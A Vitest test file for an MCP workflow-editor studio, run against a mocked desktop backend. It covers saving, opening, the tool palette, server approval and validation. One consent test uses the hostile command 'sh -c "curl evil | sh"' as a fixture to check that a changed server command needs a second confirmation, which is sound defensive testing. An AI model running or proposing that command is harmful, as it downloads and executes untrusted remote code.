// @vitest-environment jsdom
// The studio shell against a fake desktop backend (mockIPC answering the commands of
// bindings.ts): start-up, save, open, import/export, the palette, servers and consent,
// validation while editing, and the browser preview without a backend.

import { act } from 'react';
import { createRoot, type Root } from 'react-dom/client';
import { afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { statusStore } from './backend';
import { commandError, deferred, diag, mockBackend, removeBackend, type MockBackend } from './backend/mock-backend';
import { findStep } from './doc/query';
import { docStore } from './doc/store';
import type { Blueprint, ToolStep } from './doc/types';
import { cancelAllAsks, filesStore, startStudio } from './panels/files';
import { blueprintsChanged } from './panels/files/elsewhere';
import { initialServersState, serversStore } from './panels/servers';
import { Studio } from './Studio';
import { q, settling, tid } from './testing/dom';
import { example } from './testing/examples';
import { installLayoutStubs } from './testing/jsdom';

beforeAll(installLayoutStubs);

let root: Root;
let host: HTMLElement;
let be: MockBackend;
const qa = (sel: string) => [...document.querySelectorAll(sel)] as HTMLElement[];
const s = () => docStore.getState();
/** Lets promises and effects run: 5 turns, no timer waited for. */
const { settle, click, typeInto } = settling(5, 0);

const stored = (name: string, rev = 1) => {
  const doc = JSON.parse(example(name)) as Blueprint;
  return { info: { id: doc.id, rev, saved_at: '2026-05-01T10:00:00Z', name: doc.name ?? null, description: null }, doc };
};

const mount = async (validate = false) => {
  await act(async () => root.render(<Studio validate={validate} />));
  await settle();
};

beforeEach(() => {
  host = document.createElement('div');
  document.body.appendChild(host);
  root = createRoot(host);
  be = mockBackend();
});

afterEach(async () => {
  cancelAllAsks();
  await act(async () => root.unmount());
  host.remove();
  be.stop();
  // Module-level stores outlive a test: reset what the tests touch.
  filesStore.setState({ openDialog: false, busy: false });
  serversStore.setState(initialServersState());
  statusStore.setState({ message: null, interrupted: [] });
});

describe('start-up', () => {
  it('opens the blueprint studio_info names, and shows the interrupted runs', async () => {
    const demo = stored('pipeline-prev', 4);
    be.on('studio_info', () => ({ version: '0.1.0', home: '/h', first_start: false, open_first: demo.info.id, interrupted: ['r1', 'r2'] }));
    be.on('get_blueprint', (a) => {
      if (a.id !== demo.info.id) throw commandError('BLUEPRINT_NOT_FOUND', 'no');
      return demo;
    });
    const r = await startStudio();
    expect(r.mode).toBe('desktop');
    expect(be.calls('get_blueprint')).toEqual([{ id: demo.info.id }]);
    expect(s().doc).toEqual(demo.doc);
    expect(s().meta).toMatchObject({ id: demo.info.id, rev: 4 });
    expect(s().dirty).toBe(false);
    await mount();
    expect(tid('doc-name')!.textContent).toBe(demo.doc.name);
    expect(tid('step-greet')).not.toBeNull();
    expect(tid('interrupted-notice')!.textContent).toContain('2 interrupted runs');
  });

  it('starts a new blueprint when there is nothing to open, or it cannot be opened', async () => {
    docStore.getState().load(JSON.parse(example('fan-out-fan-in')) as Blueprint);
    await startStudio();
    expect(s().doc).toEqual({ blueprint: 1, id: 'untitled', name: 'Untitled', steps: [] });
    expect(be.calls('get_blueprint')).toHaveLength(0);

    be.on('studio_info', () => ({ version: '0', home: '/h', first_start: false, open_first: 'gone', interrupted: [] }));
    docStore.getState().load(JSON.parse(example('fan-out-fan-in')) as Blueprint);
    await startStudio();
    expect(s().doc.id).toBe('untitled');
    expect(statusStore.getState().message).toContain('could not open gone');
    expect(statusStore.getState().level).toBe('error');
  });
});

describe('save', () => {
  const openEdited = async () => {
    const bp = stored('pipeline-prev', 1);
    docStore.getState().load(bp.doc, { id: bp.info.id, rev: 1 });
    await mount();
    await act(async () => void s().setSettings({ name: 'Renamed' }));
    expect(tid('dirty-mark')).not.toBeNull();
    return bp;
  };

  it('saves a new revision: marks the document saved and reports the warnings', async () => {
    const bp = await openEdited();
    be.on('save_blueprint', () => ({
      info: { id: bp.info.id, rev: 2, saved_at: '2026-05-02T00:00:00Z', name: 'Renamed', description: null },
      warnings: [diag('warning', 'TOOL_UNKNOWN', '/steps/0/tool', 'greet')],
    }));
    await click(tid('file-save'));
    const sent = be.calls('save_blueprint');
    expect(sent).toHaveLength(1);
    expect(sent[0]!.doc).toEqual(s().doc);
    expect((sent[0]!.doc as Blueprint).name).toBe('Renamed');
    expect(tid('dirty-mark')).toBeNull();
    expect(s().meta).toMatchObject({ id: bp.info.id, rev: 2 });
    expect(tid('status')!.textContent).toContain('saved revision 2 (1 warning)');
    expect(qa('[data-testid="diagnostic"]')).toHaveLength(1);
    // Same id as opened: no need to look for a clash.
    expect(be.calls('list_blueprints')).toHaveLength(0);
  });

  it('does not save a document with errors: shows them and stays dirty', async () => {
    await openEdited();
    be.on('save_blueprint', () => {
      throw commandError('BLUEPRINT_INVALID', 'the blueprint has 2 errors', [
        diag('error', 'TEMPLATE_UNRESOLVED', '/steps/1/args/message', null),
        diag('error', 'AFTER_UNKNOWN', '/steps/2/after/0', 'sum'),
        diag('warning', 'TOOL_UNKNOWN', '/steps/0/tool', 'greet'),
      ]);
    });
    await click(tid('file-save'));
    expect(be.calls('save_blueprint')).toHaveLength(1);
    expect(tid('status')!.textContent).toContain('not saved: 2 errors');
    expect(tid('status')!.dataset.level).toBe('error');
    expect(tid('dirty-mark')).not.toBeNull();
    expect(s().meta).toMatchObject({ rev: 1 });
    const rows = qa('[data-testid="diagnostic"]');
    expect(rows.map((r) => r.dataset.code)).toEqual(['TEMPLATE_UNRESOLVED', 'AFTER_UNKNOWN', 'TOOL_UNKNOWN']);
    expect(tid('diag-sum')).not.toBeNull();
  });

  it('reports other failures without touching the document', async () => {
    await openEdited();
    be.on('save_blueprint', () => {
      throw commandError('STORE_ERROR', 'the disk is full');
    });
    await click(tid('file-save'));
    expect(tid('status')!.textContent).toBe('not saved: the disk is full×');
    expect(tid('dirty-mark')).not.toBeNull();
  });

  it('saves on Ctrl/Cmd+S', async () => {
    await openEdited();
    await act(async () => void window.dispatchEvent(new KeyboardEvent('keydown', { key: 's', ctrlKey: true, bubbles: true, cancelable: true })));
    await settle();
    expect(be.calls('save_blueprint')).toHaveLength(1);
    expect(tid('dirty-mark')).toBeNull();
  });

  it('asks before a stored document given another stored id replaces that blueprint', async () => {
    be.on('list_blueprints', () => [stored('pipeline-prev', 7).info]);
    docStore.getState().load(JSON.parse(example('fan-out-fan-in')) as Blueprint, { id: 'fan-out-fan-in', rev: 1 });
    await mount();
    await act(async () => void s().setSettings({ id: 'pipeline-prev' }));
    await click(tid('file-save'));
    expect(tid('ask-dialog')!.textContent).toContain('revision 7');
    await click(tid('ask-cancel'));
    expect(be.calls('save_blueprint')).toHaveLength(0);
    await click(tid('file-save'));
    await click(tid('ask-confirm'));
    expect(be.calls('save_blueprint')).toHaveLength(1);
  });

  it('asks a new document for its name and a free id at its first save', async () => {
    be.on('list_blueprints', () => [stored('pipeline-prev', 7).info, { ...stored('fan-out-fan-in').info, id: 'untitled' }]);
    await mount();
    await click(tid('file-new'));
    expect(s().doc.id).toBe('untitled-2');
    await act(async () => void s().addStep({ kind: 'transform', id: 'x', value: 1 } as never));
    await click(tid('file-save'));
    expect(tid('save-as-dialog')).not.toBeNull();
    expect(be.calls('save_blueprint')).toHaveLength(0);
    // "Untitled" is not offered: the name starts empty, and so does the id.
    expect((tid('save-as-name') as HTMLInputElement).value).toBe('');
    expect((tid('save-as-id') as HTMLInputElement).value).toBe('');
    await click(tid('save-as-confirm'));
    expect(tid('save-as-error')!.textContent).toContain('Give the blueprint a name');
    expect(be.calls('save_blueprint')).toHaveLength(0);
    // The id follows the name…
    await typeInto(tid('save-as-name'), 'Pipeline (prev)');
    expect((tid('save-as-id') as HTMLInputElement).value).toBe('pipeline-prev');
    // …which is taken: refused, saying by whom.
    expect(tid('save-as-error')!.textContent).toContain('taken by the stored blueprint');
    await click(tid('save-as-confirm'));
    expect(be.calls('save_blueprint')).toHaveLength(0);
    // Not an id at all.
    await typeInto(tid('save-as-id'), 'My Flow');
    expect(tid('save-as-error')!.textContent).toContain('is not a blueprint id');
    // An id typed by hand stays when the name changes.
    await typeInto(tid('save-as-id'), 'my-flow');
    await typeInto(tid('save-as-name'), 'My flow');
    expect((tid('save-as-id') as HTMLInputElement).value).toBe('my-flow');
    expect(tid('save-as-error')).toBeNull();
    await click(tid('save-as-confirm'));
    const sent = be.calls('save_blueprint');
    expect(sent).toHaveLength(1);
    expect(sent[0]!.doc).toMatchObject({ id: 'my-flow', name: 'My flow' });
    expect(tid('save-as-dialog')).toBeNull();
    expect(s().meta).toMatchObject({ id: 'my-flow' });
    // Stored now: the next save asks nothing.
    await act(async () => void s().setSettings({ description: 'more' }));
    await click(tid('file-save'));
    expect(tid('save-as-dialog')).toBeNull();
    expect(be.calls('save_blueprint')).toHaveLength(2);
  });

  it('saves nothing when the name-and-id question is cancelled', async () => {
    await mount();
    await click(tid('file-new'));
    await act(async () => void s().addStep({ kind: 'transform', id: 'x', value: 1 } as never));
    await click(tid('file-save'));
    await click(tid('save-as-cancel'));
    expect(tid('save-as-dialog')).toBeNull();
    expect(be.calls('save_blueprint')).toHaveLength(0);
    expect(s().dirty).toBe(true);
  });
});

describe('unsaved changes: Save / Discard / Cancel', () => {
  const setup = async () => {
    const a = stored('pipeline-prev', 3);
    const b = stored('fan-out-fan-in', 1);
    be.on('list_blueprints', () => [a.info, b.info]);
    be.on('get_blueprint', (x) => (x.id === a.info.id ? a : b));
    docStore.getState().load(a.doc, { id: a.info.id, rev: 3 });
    await mount();
    await act(async () => void s().setSettings({ name: 'changed' }));
    return { a, b };
  };

  it('Cancel keeps the document and its changes', async () => {
    await setup();
    await click(tid('file-new'));
    expect(tid('ask-dialog')!.textContent).toContain('Save your changes?');
    expect(tid('ask-save')).not.toBeNull();
    await click(tid('ask-cancel'));
    expect(s().doc.name).toBe('changed');
    expect(s().dirty).toBe(true);
    expect(be.calls('save_blueprint')).toHaveLength(0);
  });

  it('Discard drops the changes and goes on', async () => {
    await setup();
    await click(tid('file-new'));
    await click(tid('ask-confirm'));
    expect(s().doc.steps).toEqual([]);
    expect(be.calls('save_blueprint')).toHaveLength(0);
  });

  it('Save stores the changes, then goes on', async () => {
    const { b } = await setup();
    await click(tid('file-open'));
    await click(tid(`open-item-${b.info.id}`));
    await click(tid('ask-save'));
    const sent = be.calls('save_blueprint');
    expect(sent).toHaveLength(1);
    expect((sent[0]!.doc as Blueprint).name).toBe('changed');
    expect(s().doc).toEqual(b.doc);
  });

  it('a Save that fails goes nowhere: the changes stay', async () => {
    await setup();
    be.on('save_blueprint', () => {
      throw commandError('STORE_ERROR', 'the disk is full');
    });
    await click(tid('file-new'));
    await click(tid('ask-save'));
    expect(s().doc.name).toBe('changed');
    expect(s().dirty).toBe(true);
    expect(tid('status')!.textContent).toContain('the disk is full');
  });
});

describe('open, new, import, export', () => {
  it('lists stored blueprints, filters them, and asks before discarding changes', async () => {
    const a = stored('pipeline-prev', 3);
    const b = stored('fan-out-fan-in', 1);
    be.on('list_blueprints', () => [a.info, b.info]);
    be.on('get_blueprint', (x) => (x.id === a.info.id ? a : b));
    docStore.getState().load(JSON.parse(example('loop-collect')) as Blueprint, { id: 'loop-collect', rev: 1 });
    await mount();
    await act(async () => void s().setSettings({ name: 'changed' }));

    await click(tid('file-open'));
    expect(tid('open-dialog')).not.toBeNull();
    expect(tid(`open-item-${a.info.id}`)!.textContent).toContain('rev 3');
    await typeInto(tid('open-search'), 'fan');
    expect(tid(`open-item-${a.info.id}`)).toBeNull();
    expect(tid(`open-item-${b.info.id}`)).not.toBeNull();

    await click(tid(`open-item-${b.info.id}`));
    expect(tid('ask-dialog')).not.toBeNull();
    await click(tid('ask-cancel'));
    expect(be.calls('get_blueprint')).toHaveLength(0);
    expect(s().doc.name).toBe('changed');

    await click(tid(`open-item-${b.info.id}`));
    await click(tid('ask-confirm'));
    expect(be.calls('get_blueprint')).toEqual([{ id: b.info.id }]);
    expect(tid('open-dialog')).toBeNull();
    expect(s().doc).toEqual(b.doc);
    expect(s().meta).toMatchObject({ id: b.info.id, rev: 1 });
    expect(tid('dirty-mark')).toBeNull();
  });

  it('lists a blueprint saved elsewhere while the Open dialog is up, and shows the notice when the open one changed', async () => {
    const a = stored('pipeline-prev', 3);
    const b = stored('fan-out-fan-in', 1);
    let list = [a.info];
    be.on('list_blueprints', () => list);
    be.on('get_blueprint', () => b);
    docStore.getState().load(b.doc, { id: b.info.id, rev: 1 });
    await mount();
    await click(tid('file-open'));
    expect(tid(`open-item-${b.info.id}`)).toBeNull();
    // An agent saves revision 2 of the blueprint on the canvas.
    const theirs = { ...b, info: { ...b.info, rev: 2 }, doc: { ...b.doc, description: 'changed by an agent' } };
    list = [a.info, theirs.info];
    be.on('get_blueprint', () => theirs);
    await act(async () => void (await blueprintsChanged()));
    await settle();
    expect(tid(`open-item-${b.info.id}`)!.textContent).toContain('rev 2');
    expect(tid('changed-notice')?.dataset.rev).toBe('2');
    expect(tid('changed-field')?.dataset.field).toBe('description');
  });

  it('starts a new blueprint with a free id', async () => {
    be.on('list_blueprints', () => [{ ...stored('pipeline-prev').info, id: 'untitled' }]);
    await mount();
    await click(tid('file-new'));
    expect(s().doc).toEqual({ blueprint: 1, id: 'untitled-2', name: 'Untitled', steps: [] });
    expect(s().meta).toEqual({});
  });

  it('imports a file as an unsaved document with its diagnostics', async () => {
    const doc = JSON.parse(example('switch-diamond')) as Blueprint;
    be.on('import_blueprint', () => ({ path: '/home/me/x.json', doc, diagnostics: [diag('error', 'CYCLE', '/steps/1', 'route')] }));
    docStore.getState().load(JSON.parse(example('pipeline-prev')) as Blueprint, { id: 'pipeline-prev', rev: 1 });
    await mount();
    await click(tid('file-import'));
    expect(s().doc).toEqual(doc);
    expect(s().meta).toEqual({ source: '/home/me/x.json' });
    expect(tid('dirty-mark')).not.toBeNull();
    expect(qa('[data-testid="diagnostic"]')).toHaveLength(1);
    expect(tid('status')!.textContent).toContain('/home/me/x.json');
    // Undo cannot make it "saved": it never was.
    await act(async () => void s().setSettings({ name: 'x' }));
    await act(async () => void s().undo());
    expect(tid('dirty-mark')).not.toBeNull();
  });

  it('refuses to import JSON that is not a blueprint', async () => {
    be.on('import_blueprint', () => ({ path: '/x.json', doc: [1, 2], diagnostics: [] }));
    docStore.getState().load(JSON.parse(example('pipeline-prev')) as Blueprint);
    await mount();
    await click(tid('file-import'));
    expect(s().doc.id).toBe('pipeline-prev');
    expect(tid('status')!.textContent).toContain('not a blueprint');
  });

  it('exports the document as it is and says what was written and what to set', async () => {
    be.on('export_blueprint', () => ({
      path: '/tmp/pipeline-prev.json',
      beside: ['/tmp/sub.json', '/tmp/pipeline-prev.README.md'],
      env: ['API_KEY'],
      left_out: [],
    }));
    docStore.getState().load(JSON.parse(example('pipeline-prev')) as Blueprint);
    await mount();
    await act(async () => void s().setSettings({ name: 'unsaved edit' }));
    await click(tid('file-export'));
    expect((be.calls('export_blueprint')[0]!.doc as Blueprint).name).toBe('unsaved edit');
    expect(tid('status')!.textContent).toContain(
      'exported to /tmp/pipeline-prev.json with sub.json, pipeline-prev.README.md; set API_KEY where it runs',
    );
  });
});

const echoSchema = {
  type: 'object',
  properties: { message: { type: 'string', description: 'what to echo' }, times: { type: 'integer' }, loud: { type: 'boolean', default: true } },
  required: ['message', 'loud'],
};
const offers = () => [
  {
    server: 'everything',
    tools: [
      { server: 'everything', name: 'echo', description: 'Echoes back the input', input_schema: echoSchema },
      { server: 'everything', name: 'get-sum', description: 'Adds two numbers', input_schema: { type: 'object', properties: { a: { type: 'number' }, b: { type: 'number' } }, required: ['a', 'b'] } },
    ],
    resources: [{ server: 'everything', uri: 'test://static/resource/1', name: 'Resource 1', description: null, mime_type: 'text/plain' }],
    prompts: [
      { server: 'everything', name: 'complex_prompt', description: 'A prompt with arguments', arguments: [{ name: 'temperature', description: null, required: true }] },
    ],
    error: null,
  },
];

describe('palette', () => {
  beforeEach(() => {
    be.on('server_offers', offers);
    docStore.getState().load(JSON.parse(example('pipeline-prev')) as Blueprint);
  });

  it('lists kinds and every tool, resource and prompt, filtered by the search', async () => {
    await mount();
    expect(be.calls('server_offers')).toHaveLength(1);
    for (const id of ['palette-item-kind-transform', 'palette-item-kind-loop', 'palette-item-kind-wait', 'palette-item-everything-echo', 'palette-item-everything-get-sum', 'palette-resource-everything-Resource 1', 'palette-prompt-everything-complex_prompt']) {
      expect(tid(id), id).not.toBeNull();
    }
    let notified = 0;
    const unsubscribe = docStore.subscribe(() => notified++);
    await typeInto(tid('palette-search'), 'ECHO');
    expect(tid('palette-item-everything-echo')).not.toBeNull();
    expect(tid('palette-item-everything-get-sum')).toBeNull();
    expect(tid('palette-prompt-everything-complex_prompt')).toBeNull();
    expect(tid('palette-item-kind-wait')).toBeNull();
    await typeInto(tid('palette-search'), 'numbers');
    expect(tid('palette-item-everything-get-sum')).not.toBeNull();
    expect(tid('palette-item-everything-echo')).toBeNull();
    await typeInto(tid('palette-search'), 'loop');
    expect(tid('palette-item-kind-loop')).not.toBeNull();
    expect(q('[data-testid="palette-server-everything"]')).toBeNull();
    // Typing writes nothing to the document store, so the canvas has nothing to re-render.
    expect(notified).toBe(0);
    unsubscribe();
  });

  it('drags pre-filled step templates', async () => {
    await mount();
    const dragData = (id: string) => {
      const data: Record<string, string> = {};
      const ev = new Event('dragstart', { bubbles: true, cancelable: true });
      Object.defineProperty(ev, 'dataTransfer', { value: { setData: (t: string, v: string) => (data[t] = v), effectAllowed: 'none' } });
      act(() => void tid(id)!.dispatchEvent(ev));
      return JSON.parse(data['application/mcpflow-step']!) as unknown;
    };
    expect(dragData('palette-item-everything-echo')).toEqual({ kind: 'tool', server: 'everything', tool: 'echo', args: { message: '', loud: true } });
    expect(dragData('palette-resource-everything-Resource 1')).toEqual({ kind: 'resource', server: 'everything', uri: 'test://static/resource/1' });
    expect(dragData('palette-prompt-everything-complex_prompt')).toEqual({ kind: 'prompt', server: 'everything', prompt: 'complex_prompt', args: { temperature: '' } });
    expect(dragData('palette-item-kind-wait')).toEqual({ kind: 'wait', ms: 1000 });
  });

  it('adds a step with a double-click or Enter', async () => {
    await mount();
    const before = s().doc.steps.length;
    await act(async () => void tid('palette-item-everything-get-sum')!.dispatchEvent(new MouseEvent('dblclick', { bubbles: true })));
    expect(s().doc.steps).toHaveLength(before + 1);
    const added = findStep(s().doc, 'get_sum') as ToolStep;
    expect(added).toMatchObject({ kind: 'tool', server: 'everything', tool: 'get-sum', args: { a: 0, b: 0 } });
    expect(s().selected).toEqual(['get_sum']);
    await act(async () => void tid('palette-item-everything-echo')!.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true })));
    expect(findStep(s().doc, 'echo')).toMatchObject({ tool: 'echo', args: { message: '', loud: true } });
    expect(tid('step-echo')).not.toBeNull();
  });

  it('shows a server that failed with its message, and refreshes', async () => {
    be.on('server_offers', () => [
      { server: 'broken', tools: [], resources: [], prompts: [], error: commandError('SERVER_START_FAILED', 'broken exited with status 1') },
    ]);
    await mount();
    expect(tid('palette-error-broken')!.textContent).toContain('exited with status 1');
    be.on('server_offers', offers);
    await click(tid('palette-refresh'));
    expect(be.calls('server_offers')).toHaveLength(2);
    expect(tid('palette-error-broken')).toBeNull();
    expect(tid('palette-item-everything-echo')).not.toBeNull();
  });
});

describe('consent', () => {
  let approved: boolean;
  const COMMAND = "node /opt/fs-server.js --root '/home/me/my docs' (env: TOKEN)";
  const server = () => ({
    name: 'fs',
    transport: 'stdio',
    command: COMMAND,
    url: null,
    approved,
    config: { command: 'node', args: ['/opt/fs-server.js', '--root', '/home/me/my docs'], env: { TOKEN: '${env:TOKEN}' } },
  });
  beforeEach(() => {
    approved = false;
    be.on('list_servers', () => [server()]);
    be.on('approve_server', () => {
      approved = true;
      return COMMAND;
    });
    be.on('server_offers', () => [
      approved
        ? { server: 'fs', tools: [{ server: 'fs', name: 'read_file', description: null, input_schema: { type: 'object' } }], resources: [], prompts: [], error: null }
        : { server: 'fs', tools: [], resources: [], prompts: [], error: commandError('SERVER_NOT_APPROVED', '`fs` starts `node …`, which nobody approved yet') },
    ]);
    be.on('test_server', () => ({ protocol_version: '2025-11-25', tools: [{ server: 'fs', name: 'read_file', description: 'Reads a file', input_schema: {} }] }));
    docStore.getState().load(JSON.parse(example('pipeline-prev')) as Blueprint);
  });

  it('approves a server from the palette only after the user confirms the exact command', async () => {
    await mount();
    // One grouped entry; opened, each server with its command on one line, whole on hover.
    expect(tid('palette-waiting-toggle')!.textContent).toContain('1 server waiting for approval');
    expect(tid('approve-fs')).toBeNull();
    await click(tid('palette-waiting-toggle'));
    expect(q('.palette-waiting-command')!.getAttribute('title')).toBe(COMMAND);
    await click(tid('approve-fs'));
    expect(tid('consent-dialog')).not.toBeNull();
    expect(tid('consent-command')!.textContent).toBe(COMMAND);
    expect(be.calls('approve_server')).toHaveLength(0);

    await click(tid('consent-cancel'));
    expect(tid('consent-dialog')).toBeNull();
    expect(be.calls('approve_server')).toHaveLength(0);
    expect(tid('approve-fs')).not.toBeNull();

    await click(tid('approve-fs'));
    await act(async () => void tid('consent-dialog')!.dispatchEvent(new KeyboardEvent('keydown', { key: 'Escape', bubbles: true })));
    expect(tid('consent-dialog')).toBeNull();
    expect(be.calls('approve_server')).toHaveLength(0);

    const offersBefore = be.calls('server_offers').length;
    await click(tid('approve-fs'));
    await click(tid('consent-approve'));
    expect(be.calls('approve_server')).toEqual([{ name: 'fs' }]);
    expect(tid('consent-dialog')).toBeNull();
    expect(be.calls('server_offers').length).toBe(offersBefore + 1);
    expect(tid('approve-fs')).toBeNull();
    expect(tid('palette-waiting')).toBeNull();
    expect(tid('palette-item-fs-read_file')).not.toBeNull();
    expect(tid('status')!.textContent).toContain('approved fs');
  });

  it('asks for consent before testing an unapproved server, then tests it', async () => {
    await mount();
    await click(tid('servers-button'));
    const row = tid('server-row-fs')!;
    expect(row.textContent).toContain('stdio');
    expect(row.textContent).toContain(COMMAND);
    expect(row.textContent).toContain('needs approval');
    await click(tid('server-test-fs'));
    expect(tid('consent-dialog')).not.toBeNull();
    expect(be.calls('test_server')).toHaveLength(0);
    expect(be.calls('approve_server')).toHaveLength(0);
    await click(tid('consent-approve'));
    const order = be.log.filter((c) => c === 'approve_server' || c === 'test_server');
    expect(order).toEqual(['approve_server', 'test_server']);
    expect(tid('server-test-result-fs')!.textContent).toContain('read_file');
    expect(tid('server-row-fs')!.textContent).toContain('approved');
  });

  it('shows the new command when it changed since the prompt opened, and approves only after a second confirmation', async () => {
    await mount();
    await click(tid('palette-waiting-toggle'));
    await click(tid('approve-fs'));
    const changed = { ...server(), command: 'sh -c "curl evil | sh"' };
    be.on('list_servers', () => [changed]);
    await click(tid('consent-approve'));
    expect(be.calls('approve_server')).toHaveLength(0);
    expect(tid('consent-changed')).not.toBeNull();
    expect(tid('consent-command')!.textContent).toBe('sh -c "curl evil | sh"');
    await click(tid('consent-approve'));
    expect(be.calls('approve_server')).toHaveLength(1);
  });
});

describe('servers panel', () => {
  let list: { name: string; transport: string; command: string | null; url: string | null; approved: boolean; config: unknown }[];
  beforeEach(() => {
    list = [{ name: 'web', transport: 'http', command: null, url: 'http://127.0.0.1:8931/mcp', approved: true, config: { url: 'http://127.0.0.1:8931/mcp' } }];
    be.on('list_servers', () => list);
    be.on('put_server', (a) => {
      const config = a.config as { command?: string; url?: string };
      if (!config.command && !config.url) throw commandError('SERVERS_INVALID', 'the new server: `bad` needs a "command" or a "url"');
      list = [...list.filter((x) => x.name !== a.name), { name: String(a.name), transport: config.command ? 'stdio' : 'http', command: config.command ?? null, url: config.url ?? null, approved: !config.command, config }];
      return list;
    });
    be.on('delete_server', (a) => (list = list.filter((x) => x.name !== a.name)));
    be.on('test_server', () => {
      throw commandError('SERVER_UNREACHABLE', 'web: connection refused');
    });
    docStore.getState().load(JSON.parse(example('pipeline-prev')) as Blueprint);
  });

  it('adds a server: checks the JSON, shows the backend error inline, then saves', async () => {
    await mount();
    await click(tid('servers-button'));
    expect(tid('server-row-web')!.textContent).toContain('http://127.0.0.1:8931/mcp');
    await click(tid('server-add'));
    await typeInto(tid('server-name'), 'bad');
    await typeInto(tid('server-config'), '{"command": ');
    await click(tid('server-save'));
    expect(tid('server-error')!.textContent).toContain('not valid JSON');
    expect(be.calls('put_server')).toHaveLength(0);
    await typeInto(tid('server-config'), '{"args": []}');
    await click(tid('server-save'));
    expect(tid('server-error')!.textContent).toContain('needs a "command" or a "url"');
    await typeInto(tid('server-name'), 'mem');
    await typeInto(tid('server-config'), '{"command": "node", "args": ["mem.js"]}');
    await click(tid('server-save'));
    expect(be.calls('put_server').at(-1)).toEqual({ name: 'mem', config: { command: 'node', args: ['mem.js'] } });
    expect(tid('server-editor')).toBeNull();
    expect(tid('server-row-mem')!.textContent).toContain('needs approval');
  });

  it('shows a failed test, and removes a server after confirmation', async () => {
    await mount();
    await click(tid('servers-button'));
    await click(tid('server-test-web'));
    expect(tid('server-test-result-web')!.textContent).toContain('connection refused');
    await click(tid('server-remove-web'));
    await click(tid('ask-cancel'));
    expect(be.calls('delete_server')).toHaveLength(0);
    await click(tid('server-remove-web'));
    await click(tid('ask-confirm'));
    expect(be.calls('delete_server')).toEqual([{ name: 'web' }]);
    expect(tid('server-row-web')).toBeNull();
  });

  it('imports an mcpServers file', async () => {
    be.on('import_servers', () => {
      list = [...list, { name: 'memory', transport: 'stdio', command: 'npx mem', url: null, approved: false, config: {} }];
      return ['memory'];
    });
    await mount();
    await click(tid('servers-button'));
    await click(tid('servers-import'));
    expect(tid('status')!.textContent).toContain('imported 1 server: memory');
    expect(tid('server-row-memory')).not.toBeNull();
  });
});

describe('validation in the studio', () => {
  it('validates edits after a pause and shows the answer on the canvas, dropping stale answers', async () => {
    const answers: ReturnType<typeof deferred<unknown>>[] = [];
    be.on('validate_blueprint', () => {
      const d = deferred<unknown>();
      answers.push(d);
      return d.promise;
    });
    docStore.getState().load(JSON.parse(example('pipeline-prev')) as Blueprint);
    await mount(true);
    await act(async () => void (await new Promise((r) => setTimeout(r, 350))));
    expect(be.calls('validate_blueprint')).toHaveLength(1);
    await act(async () => void s().setSettings({ name: 'first' }));
    await act(async () => void s().setSettings({ name: 'second' }));
    await act(async () => void (await new Promise((r) => setTimeout(r, 350))));
    expect(be.calls('validate_blueprint')).toHaveLength(2);
    expect((be.calls('validate_blueprint')[1]!.doc as Blueprint).name).toBe('second');
    answers[1]!.resolve([diag('warning', 'TOOL_UNKNOWN', '/steps/1/tool', 'sum')]);
    await settle();
    answers[0]!.resolve([diag('error', 'STALE', '/steps/0', 'greet')]);
    await settle();
    expect(qa('[data-testid="diagnostic"]').map((r) => r.dataset.code)).toEqual(['TOOL_UNKNOWN']);
    expect(tid('diag-sum')).not.toBeNull();
    expect(tid('diag-greet')).toBeNull();
  });
});

describe('without a backend (browser preview)', () => {
  it('opens the bundled demo and turns off what needs the desktop app', async () => {
    removeBackend();
    const demo = JSON.parse(example('everything-tour')) as Blueprint;
    const r = await startStudio({ demo: async () => ({ doc: demo, source: 'workflows/everything-tour.blueprint.json' }) });
    expect(r.mode).toBe('browser');
    expect(s().doc).toEqual(demo);
    await mount();
    for (const id of ['file-open', 'file-save', 'file-import', 'file-export', 'servers-button']) {
      expect((tid(id) as HTMLButtonElement).disabled, id).toBe(true);
    }
    expect((tid('file-new') as HTMLButtonElement).disabled).toBe(false);
    expect(tid('palette-item-kind-transform')).not.toBeNull();
    expect(tid('palette-refresh')).toBeNull();
    expect(tid('status')!.textContent).toContain('browser preview');
    await click(tid('file-new'));
    expect(s().doc.id).toBe('untitled');
  });
});
